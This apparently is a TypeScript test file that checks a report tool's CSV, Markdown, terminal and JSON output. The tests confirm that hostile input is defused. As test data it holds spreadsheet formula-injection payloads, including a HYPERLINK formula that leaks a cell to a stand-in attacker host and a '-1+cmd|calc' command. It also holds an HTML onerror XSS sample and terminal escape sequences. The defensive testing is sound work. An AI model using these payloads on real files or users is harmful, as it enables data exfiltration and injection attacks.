// The one CSV writer, the one Markdown escaper, the one terminal sanitiser and JSON without raw controls: what a
// hostile title or server message turns into in every file and print.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { terminalText } from '../../src/cli/terminal.ts';
import { summaryCsv } from '../../src/report/summary-csv.ts';
import { summaryMarkdown } from '../../src/report/summary-md.ts';
import { diffMarkdown } from '../../src/report/diff-markdown.ts';
import { loadRuleset } from '../../src/score/ruleset.ts';
import { stripControls } from '../../src/util/control-chars.ts';
import { csvCell, toCsv } from '../../src/util/csv.ts';
import { jsonText } from '../../src/util/json-text.ts';
import { mdEscape } from '../../src/util/markdown.ts';
import { demoLikeRun } from './demo-like-run.ts';

describe('CSV writer', () => {
  it('defuses = + - @ TAB CR (and their full-width forms) with a leading quote; plain numbers stay numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    expect(csvCell('+886-2-1234')).toBe("'+886-2-1234");
    expect(csvCell('-1+cmd|calc')).toBe("'-1+cmd|calc");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe("'=1"); // a lone CR is a control character: dropped, and the formula still defused
    expect(csvCell('＝1+1')).toBe("'＝1+1");
    expect(csvCell('-35.00')).toBe('-35.00');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('title\u001b]0;pwned\u0007 end')).toBe('title end');
  });

  it('writes UTF-8 with BOM and CRLF by default; a data file for the demo portal is written as given', () => {
    expect(toCsv([['a', '=b'], [1, 'x\ny']])).toBe('\ufeffa,\'=b\r\n1,"x\ny"\r\n');
    expect(toCsv([['a', '=b']], { bom: false, defuse: false, eol: '\n' })).toBe('a,=b\n');
  });

  it('summary.csv defuses a hostile title (it wrote =HYPERLINK live before)', () => {
    const run = demoLikeRun();
    run.datasets[0].title = '=HYPERLINK("http://evil.example/?leak="&A1,"點我")';
    run.datasets[0].agency = '@agency';
    const rows = parse(summaryCsv(run, ['link-valid']).slice(1), { columns: true }) as Record<string, string>[];
    expect(rows[0].title).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"點我")');
    expect(rows[0].agency).toBe("'@agency");
  });
});

describe('Markdown escaper', () => {
  it('keeps a table row one row: pipes, CR/LF, HTML, link syntax and controls', () => {
    expect(mdEscape('a | b\r\nc')).toBe('a \\| b c');
    expect(mdEscape('<script>alert(1)</script>')).toBe('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(mdEscape('![x](http://evil/p.png) *b* `c` _d_')).toBe('!\\[x\\](http://evil/p.png) \\*b\\* \\`c\\` \\_d\\_');
    expect(mdEscape('x\u001b[2Jy')).toBe('xy');
  });

  it('summary.md and the diff Markdown keep their tables whole on a hostile agency name', () => {
    const run = demoLikeRun();
    const hostile = 'Evil | agency\n| injected | row |<img src=x onerror=alert(1)>';
    run.agencies[0].agency = hostile;
    const md = summaryMarkdown(run, loadRuleset());
    const row = md.split('\n').find((l) => l.includes('Evil'))!;
    expect(row.startsWith(`| Evil \\| agency \\| injected \\| row \\|&lt;img src=x onerror=alert(1)&gt; | ${run.agencies[0].datasets} | `)).toBe(true);
    const cells = (line: string) => line.split(/(?<!\\)\|/).length;
    expect(cells(row)).toBe(cells(md.split('\n').find((l) => l.startsWith('| 機關 Agency'))!));
    expect(md).not.toContain('<img');
    const diff = diffMarkdown({
      runA: { id: 1, startedAt: 'a', rulesetId: 'r' }, runB: { id: 2, startedAt: 'b', rulesetId: 'r' }, rose: [], fell: [], added: [], removed: [],
      indicatorChangesOnly: 0, agencies: [{ agency: hostile, before: 1, after: 2, delta: 1 }],
    } as unknown as Parameters<typeof diffMarkdown>[0]);
    expect(diff).toContain('| Evil \\| agency \\| injected \\| row \\|&lt;img src=x onerror=alert(1)&gt; | 1.00 | 2.00 | +1.00 |');
  });
});

describe('terminal and JSON text', () => {
  it('strips escape sequences (OSC title, CSI clear, 8-bit CSI, DCS) and controls; keeps newlines and tabs', () => {
    expect(stripControls('a\u001b]0;pwned title\u0007b\u001b[2Jc\u009b31md\u001bPq#0\u001b\\e\rf\bg\n\th')).toBe('abcdefg\n\th');
    expect(stripControls('unterminated \u001b]0;title\nnext')).toBe('unterminated \nnext');
  });

  it('terminal text masks URL secrets too', () => {
    expect(terminalText('cannot read https://u:pw@h.example/x?apikey=K \u001b[2J\n')).toBe('cannot read https://***@h.example/x?apikey=*** \n');
  });

  it('JSON output escapes C1 controls (JSON.stringify leaves them raw) and parses back to the same text', () => {
    const v = { t: 'a\u009b2Jb\u001b' };
    const text = jsonText(v);
    expect(text).toBe('{"t":"a\\u009b2Jb\\u001b"}');
    expect(JSON.parse(text)).toEqual(v);
  });
});
